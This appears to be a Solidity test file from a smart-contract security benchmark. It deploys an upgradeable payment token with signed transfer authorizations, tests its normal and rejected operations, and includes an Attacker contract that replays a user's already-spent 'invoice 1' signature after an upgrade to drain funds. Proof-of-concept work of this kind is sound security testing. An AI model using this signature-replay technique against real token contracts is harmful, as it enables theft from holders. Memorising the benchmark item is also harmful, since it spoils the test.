// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC1967Proxy} from "@openzeppelin/contracts@5.4.0/proxy/ERC1967/ERC1967Proxy.sol";
import {Initializable} from "@openzeppelin/contracts@5.4.0/proxy/utils/Initializable.sol";
import "./PaymentTokenV2.sol";

// assay-canary-dfcd4d74-208c-46ec-991e-bb00b8b4b34e

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant BEN = address(0xBE9);
    uint256 internal constant ANA_KEY = 0xA9A;
    string internal constant TERMS =
        "(address from,address to,uint256 value,uint256 validAfter,uint256 validBefore,bytes32 nonce)";

    PaymentTokenV2 internal token;
    Attacker internal mallory;
    address internal ana;

    function setUp() public {
        vm.warp(1_800_000_000);
        ana = vm.addr(ANA_KEY);
        bytes memory first = abi.encodeCall(PaymentToken.initialize, (address(this)));
        token = PaymentTokenV2(address(new ERC1967Proxy(address(new PaymentToken()), first)));
        token.mint(ana, 100_000e18);
        mallory = new Attacker(token);

        // ana pays an invoice, and revokes a payment
        bytes memory signature = signed("Transfer", ana, address(mallory), 40_000e18, bytes32("invoice 1"));
        token.transferWithAuthorization(ana, address(mallory), 40_000e18, 0, 2e9, "invoice 1", signature);
        token.cancelAuthorization(ana, "invoice 2", cancelled("invoice 2"));
        mallory.keep(ana, signature);

        token.upgradeToAndCall(address(new PaymentTokenV2()), abi.encodeCall(PaymentTokenV2.initializeV2, (BEN)));
        require(token.guardian() == BEN && token.balanceOf(ana) == 60_000e18, "upgraded");
    }

    function digest(bytes32 hash) internal view returns (bytes32) {
        bytes32 domain = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Payment Dollar"),
                keccak256("1"),
                block.chainid,
                address(token)
            )
        );
        return keccak256(abi.encodePacked("\x19\x01", domain, hash));
    }

    function signed(string memory kind, address from, address to, uint256 value, bytes32 nonce)
        internal
        returns (bytes memory)
    {
        bytes32 typed = keccak256(abi.encodePacked(kind, "WithAuthorization", TERMS));
        (uint8 v, bytes32 r, bytes32 s) =
            vm.sign(ANA_KEY, digest(keccak256(abi.encode(typed, from, to, value, uint256(0), uint256(2e9), nonce))));
        return abi.encodePacked(r, s, v);
    }

    function cancelled(bytes32 nonce) internal returns (bytes memory) {
        bytes32 typed = keccak256("CancelAuthorization(address from,bytes32 nonce)");
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(ANA_KEY, digest(keccak256(abi.encode(typed, ana, nonce))));
        return abi.encodePacked(r, s, v);
    }

    function test_Regular() public {
        require(token.authorizationState(ana, "invoice 1") && token.authorizationState(ana, "invoice 2"), "as before");
        bytes memory signature = signed("Transfer", ana, BEN, 5e18, "invoice 3");
        token.transferWithAuthorization(ana, BEN, 5e18, 0, 2e9, "invoice 3", signature);
        require(token.balanceOf(BEN) == 5e18 && token.usedAt(ana, "invoice 3") == 1_800_000_000, "paid");
        signature = signed("Receive", ana, address(this), 6e18, "invoice 4");
        token.receiveWithAuthorization(ana, address(this), 6e18, 0, 2e9, "invoice 4", signature);
        require(token.balanceOf(address(this)) == 6e18 && token.authorizationState(ana, "invoice 4"), "received");
        token.cancelAuthorization(ana, "invoice 5", cancelled("invoice 5"));
        require(token.usedAt(ana, "invoice 5") == 1_800_000_000, "revoked");
        require(!token.authorizationState(ana, "invoice 6"), "free");

        token.transfer(BEN, 1e18);
        token.approve(BEN, 2e18);
        vm.startPrank(BEN);
        token.transferFrom(address(this), BEN, 2e18);
        token.setFrozen(ana, true);
        require(token.isFrozen(ana), "frozen");
        token.setFrozen(ana, false);
        token.burn(8e18);
        vm.stopPrank();
        token.mint(BEN, 1e18);
        require(token.balanceOf(BEN) == 1e18 && token.totalSupply() == 99_993e18, "minted and burnt");
        token.upgradeToAndCall(address(new PaymentTokenV2()), "");
        require(token.guardian() == BEN, "kept");
    }

    function test_RefusesOthers() public {
        vm.expectRevert(abi.encodeWithSelector(PaymentTokenV2.OnlyGuardian.selector, BEN));
        token.setFrozen(ana, true);
        vm.expectRevert(Initializable.InvalidInitialization.selector);
        token.initializeV2(address(this));
        vm.expectRevert(Initializable.InvalidInitialization.selector);
        token.initialize(BEN);
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(PaymentToken.OnlyIssuer.selector, address(this)));
        token.mint(BEN, 1);
        PaymentTokenV2 next = new PaymentTokenV2();
        vm.expectRevert(abi.encodeWithSelector(PaymentToken.OnlyIssuer.selector, address(this)));
        token.upgradeToAndCall(address(next), "");
        token.setFrozen(ana, true);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(PaymentTokenV2.AccountFrozen.selector, ana));
        token.mint(ana, 1);
        vm.prank(ana);
        vm.expectRevert(abi.encodeWithSelector(PaymentTokenV2.AccountFrozen.selector, ana));
        token.transfer(BEN, 1);
    }

    function test_RefusesAuthorizations() public {
        bytes memory receipt = signed("Receive", ana, address(this), 6e18, "invoice 4");
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(PaymentTokenV2.OnlyPayee.selector, address(this)));
        token.receiveWithAuthorization(ana, address(this), 6e18, 0, 2e9, "invoice 4", receipt);
        vm.expectRevert(abi.encodeWithSelector(PaymentToken.AuthorizationNotYetValid.selector, 1_800_000_000));
        token.receiveWithAuthorization(ana, address(this), 6e18, 1_800_000_000, 2e9, "invoice 4", receipt);
        vm.expectRevert(abi.encodeWithSelector(PaymentToken.NotSignedBy.selector, ana));
        token.receiveWithAuthorization(ana, address(this), 7e18, 0, 2e9, "invoice 4", receipt);
        vm.warp(2e9);
        vm.expectRevert(abi.encodeWithSelector(PaymentToken.AuthorizationExpired.selector, 2e9));
        token.receiveWithAuthorization(ana, address(this), 6e18, 0, 2e9, "invoice 4", receipt);
        vm.warp(2e9 - 1);
        token.receiveWithAuthorization(ana, address(this), 6e18, 0, 2e9, "invoice 4", receipt);
        vm.expectRevert(abi.encodeWithSelector(PaymentToken.AuthorizationUsed.selector, ana, bytes32("invoice 4")));
        token.receiveWithAuthorization(ana, address(this), 6e18, 0, 2e9, "invoice 4", receipt);
    }

    function test_RefusesTransfers() public {
        bytes memory signature = signed("Transfer", ana, BEN, 5e18, "invoice 3");
        vm.expectRevert(abi.encodeWithSelector(PaymentToken.AuthorizationNotYetValid.selector, 1_800_000_000));
        token.transferWithAuthorization(ana, BEN, 5e18, 1_800_000_000, 2e9, "invoice 3", signature);
        vm.expectRevert(abi.encodeWithSelector(PaymentToken.NotSignedBy.selector, ana));
        token.transferWithAuthorization(ana, BEN, 6e18, 0, 2e9, "invoice 3", signature);
        vm.expectRevert(abi.encodeWithSelector(PaymentToken.NotSignedBy.selector, ana));
        token.cancelAuthorization(ana, "invoice 3", signature);
        vm.warp(2e9);
        vm.expectRevert(abi.encodeWithSelector(PaymentToken.AuthorizationExpired.selector, 2e9));
        token.transferWithAuthorization(ana, BEN, 5e18, 0, 2e9, "invoice 3", signature);
        vm.warp(2e9 - 1);
        token.transferWithAuthorization(ana, BEN, 5e18, 0, 2e9, "invoice 3", signature);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 80_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(token);
    }

    function target() public view returns (address) {
        return address(token);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PaymentTokenV2 internal token;
    address internal payer;
    bytes internal signature;

    constructor(PaymentTokenV2 token_) {
        token = token_;
    }

    function keep(address payer_, bytes calldata signature_) external {
        require(payer == address(0), "kept");
        (payer, signature) = (payer_, signature_);
    }

    function run() external {
        token.transferWithAuthorization(payer, address(this), 40_000e18, 0, 2e9, "invoice 1", signature);
    }
}
